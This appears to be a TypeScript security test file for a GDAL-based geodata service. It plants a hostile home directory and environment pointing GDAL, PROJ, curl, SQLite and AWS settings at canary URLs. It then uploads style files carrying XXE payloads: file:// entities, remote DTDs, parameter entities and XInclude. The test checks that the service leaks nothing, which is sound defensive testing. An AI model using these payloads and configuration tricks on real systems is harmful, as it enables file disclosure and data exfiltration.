import gdal from 'gdal-async';
import { createClient } from '../../support/client.ts';
import { everythingOf, everythingShared } from './everything-served.ts';
import { attackWith } from './outcomes.ts';
import { filesAround, type Place, startIn } from './place.ts';
import { watchChildren } from './watching.ts';
import type { Targets, OuterTargets } from './attack.ts';
import { mkdir, writeFile } from 'node:fs/promises';
import { join } from 'node:path';
import { netrc, settings } from './attack-archives.ts';
import { randomUUID } from 'node:crypto';
import { onePoint } from './attack-geojson.ts';
import { endOf } from './ends.ts';

/** Uploads two datasets of another user, which hostile files try to read, and waits until they are ready. */
async function uploadVictims(baseUrl: string, categoryId: string) {
  const client = createClient(baseUrl);
  const secret = `victim-${randomUUID()}`;
  const table = new File([onePoint({}, { kato: '750000000', 2025: secret })], 'table.geojson');
  const ids = {
    table: await client.upload(categoryId, 'vector_with_kato', table),
    raster: await client.upload(categoryId, 'raster', new File([await readAsRaster()], 'raster.tif')),
  };
  await endOf(baseUrl, ids.table);
  await endOf(baseUrl, ids.raster);
  return { secret, ...ids };
}

async function readAsRaster(): Promise<Buffer<ArrayBuffer>> {
  const path = `/vsimem/${randomUUID()}.tif`;
  gdal.drivers.get('GTiff').create(path, 2, 2, 1, 'Byte').close();
  return Buffer.from(gdal.vsimem.release(path));
}

/** Locations of the targets of attacks. */
async function targetsOf(
  { dataDir, clone, canaries }: Place,
  baseUrl: string,
  { table, raster }: { readonly table: string; readonly raster: string },
): Promise<Targets> {
  const stored = async (id: string, key: 'storage_key' | 'cog_storage_key') => {
    const { body } = await createClient(baseUrl).json<Record<typeof key, string>>(`/datasets/${id}`);
    return join(dataDir, 'objects', body[key]);
  };
  return {
    canaryCsv: canaries[0].csvPath,
    storedTable: await stored(table, 'storage_key'),
    storedRaster: await stored(raster, 'cog_storage_key'),
    urls: canaries.map(({ url }) => url),
    program: join(clone, 'src/main.ts'),
  };
}

/**
 * Creates a home folder with settings of GDAL, PROJ, curl and SQLite that all point to the targets, and
 * returns the environment of a user whose profile does the same.
 */
async function makeHostileHome(
  home: string,
  targets: OuterTargets,
): Promise<Readonly<Record<string, string>>> {
  const [url = ''] = targets.urls;
  const files: Readonly<Record<string, string>> = {
    '.gdal/gdalrc': settings(targets),
    '.netrc': netrc(targets),
    '.curlrc': `proxy = ${url}\n`,
    '.aws/credentials': '[default]\naws_access_key_id = canary\naws_secret_access_key = canary\n',
    '.aws/config': `[default]\nendpoint_url = ${url}\n`,
    '.local/share/proj/proj.ini': `network = on\ncdn_endpoint = ${url}\n`,
    '.sqliterc': `.load ${targets.canaryCsv}\n`,
    '.npmrc': `proxy=${url}\n`,
    'plugins/gdal_canary.so': 'no library',
  };
  for (const [name, content] of Object.entries(files)) {
    await mkdir(join(home, name, '..'), { recursive: true });
    await writeFile(join(home, name), content);
  }
  const set = (value: string, ...names: readonly string[]) =>
    Object.fromEntries(names.map((name) => [name, value]));
  return {
    ...set(home, 'HOME', 'USERPROFILE', 'GDAL_DATA', 'CPL_TMPDIR', 'PROJ_LIB', 'PROJ_DATA'),
    ...set(url, 'GDAL_HTTP_PROXY', 'http_proxy', 'https_proxy', 'all_proxy', 'HTTP_PROXY', 'HTTPS_PROXY'),
    ...set(url, 'ALL_PROXY', 'PROJ_NETWORK_ENDPOINT', 'CPL_GS_ENDPOINT'),
    ...set(targets.canaryCsv, 'OGR_SQLITE_LOAD_EXTENSIONS', 'PYTHONSO'),
    ...set('YES', 'GDAL_VRT_ENABLE_PYTHON', 'CPL_CURL_VERBOSE', 'GS_NO_SIGN_REQUEST'),
    ...set('ON', 'CPL_DEBUG', 'PROJ_NETWORK'),
    ...set('canary', 'AWS_ACCESS_KEY_ID', 'AWS_SECRET_ACCESS_KEY'),
    XDG_DATA_HOME: join(home, '.local/share'),
    GDAL_CONFIG_FILE: join(home, '.gdal/gdalrc'),
    GDAL_DRIVER_PATH: join(home, 'plugins'),
    GDAL_HTTP_NETRC_FILE: join(home, '.netrc'),
    GDAL_SKIP: 'GTiff',
    OGR_SKIP: 'GeoJSON',
    OGR_SQLITE_PRAGMA: 'journal_mode=WAL',
    CPL_VSIL_CURL_ALLOWED_EXTENSIONS: 'csv,tif',
    AWS_S3_ENDPOINT: url.replace('http://', ''),
    AWS_HTTPS: 'NO',
    AWS_VIRTUAL_HOSTING: 'FALSE',
    no_proxy: '',
  };
}

interface StyleAttack {
  readonly name: string;
  readonly text: string;
  readonly status: 200 | 422;
}

/** Styles that would make their reader fetch something. A style that only names an external picture is valid. */
function attackStyles({ canaryCsv, storedTable, urls }: Targets): readonly StyleAttack[] {
  const [url = ''] = urls;
  const root = (inner: string, head = '') =>
    `${head}<StyledLayerDescriptor version="1.0.0" xmlns:xlink="http://www.w3.org/1999/xlink" xmlns:xi="http://www.w3.org/2001/XInclude">${inner}</StyledLayerDescriptor>`;
  const external = [canaryCsv, storedTable].map((path) => ({
    name: `an entity of ${path}`,
    text: root('&a;', `<!DOCTYPE s [<!ENTITY a SYSTEM "file://${path}">]>`),
    status: 422 as const,
  }));
  return [
    ...external,
    { name: 'a DTD elsewhere', text: root('', `<!DOCTYPE s SYSTEM "${url}/s.dtd">`), status: 422 },
    {
      name: 'a parameter entity',
      text: root('', `<!DOCTYPE s [<!ENTITY % p SYSTEM "${url}/p"> %p;]>`),
      status: 422,
    },
    {
      name: 'pictures, parts and style sheets elsewhere',
      text: root(
        `<xi:include href="file://${canaryCsv}" parse="text"/><OnlineResource xlink:href="${url}/a.png"/>`,
        `<?xml-stylesheet href="${url}/a.xsl" type="text/xsl"?>`,
      ),
      status: 200,
    },
  ];
}

/** A service that has received every hostile file, and the observations. */
export type Siege = Awaited<ReturnType<typeof besiege>>;

/** Starts a service whose user has a hostile home, and uploads every hostile file. */
export async function besiege(place: Place, isolation: 'auto' | 'none') {
  const [canary] = place.canaries;
  const outer = { canaryCsv: canary.csvPath, urls: place.canaries.map(({ url }) => url) };
  const env = await makeHostileHome(place.home, outer);
  const callsBefore = callsTo(place);
  const service = await startIn(place, { ...env, ENGINE_ISOLATION: isolation });
  try {
    const { baseUrl } = service;
    const workerPid = await service.workerPid();
    const categoryId = await createClient(baseUrl).createCategory(`hostile-${isolation}`);
    const victims = await uploadVictims(baseUrl, categoryId);
    const targets = await targetsOf(place, baseUrl, victims);
    const filesBefore = await filesAround(place);
    const watch = watchChildren(workerPid);
    const outcomes = await attackWith(targets, baseUrl, categoryId);
    const environments = await watch.stop();
    const styles = await sendStyles(attackStyles(targets), baseUrl, victims.raster);
    return {
      service,
      /** Process id before the first hostile file. */
      workerPid,
      outcomes,
      styles,
      /** Everything served that belongs to no single dataset, and to the group with the styles. */
      shared: [...(await everythingShared(baseUrl)), ...(await everythingOf(baseUrl, victims.raster))],
      /** Texts that must not be disclosed. */
      secrets: [canary.text, victims.secret],
      /** Number of calls of forbidden addresses since the service was started. */
      calls: () => callsTo(place) - callsBefore,
      environments,
      filesBefore,
      filesAfter: await filesAround(place),
    };
  } catch (error) {
    await service[Symbol.asyncDispose]();
    throw error;
  }
}

function callsTo({ canaries }: Place): number {
  return canaries.reduce((sum, canary) => sum + canary.connections(), 0);
}

/** Sends styles for a dataset in turn. */
async function sendStyles(attacks: readonly StyleAttack[], baseUrl: string, datasetId: string) {
  return await Array.fromAsync(attacks, async (attack) => {
    const form = new FormData();
    form.append('file', new File([attack.text], 'a.sld'));
    const response = await fetch(`${baseUrl}/datasets/${datasetId}/sld`, { method: 'POST', body: form });
    await response.arrayBuffer();
    return { attack, status: response.status };
  });
}
